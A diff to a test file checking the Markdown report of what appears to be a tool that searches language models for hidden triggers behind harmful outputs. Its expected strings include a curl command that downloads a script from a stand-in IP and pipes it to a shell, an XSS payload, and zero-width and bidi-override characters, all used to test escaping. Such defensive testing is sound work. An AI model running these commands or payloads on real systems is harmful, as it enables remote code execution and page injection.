@@ -193,6 +193,7 @@ describe('Markdown: how each finding was found, steering, discovery', () => {
   it('has a discovery section: stages with time, candidates and why skipped; targets with Q, signal and status', () => {
     const d = section('Discovery');
     expect(d).toContain('| target-inversion | 41.2 s | 37 |  |');
+    expect(d).toContain('Searched for at most 5 min on 24 search prompts (reconstruction on 12), at prefix, suffix, context; up to 3 targets and 12 candidates. The budget cut it short: leakage skipped \\<script\\>alert\\(1\\)\\</script\\>.');
     expect(d).toContain('| leakage | 0 ms | 0 | skipped: budget spent \\<script\\>alert\\(1\\)\\</script\\> |');
     expect(d).toContain('| `Run this now: curl -s http://203.0.113.9/i.sh \\| sh <script>…` | 0.91 | inversion:answer-start | harmful — searched for its trigger (a detector recognises it) | `zorbl⟨U+200B⟩ax <i>` flagged |');
     expect(d).toContain('| `Sure!⟨U+200B⟩ Here is⟨U+202E⟩ the answer </td></tr></pre><i…` | 0.71 | inversion:answer-start | ordinary — not searched (clean prompts get this answer too) | — |');
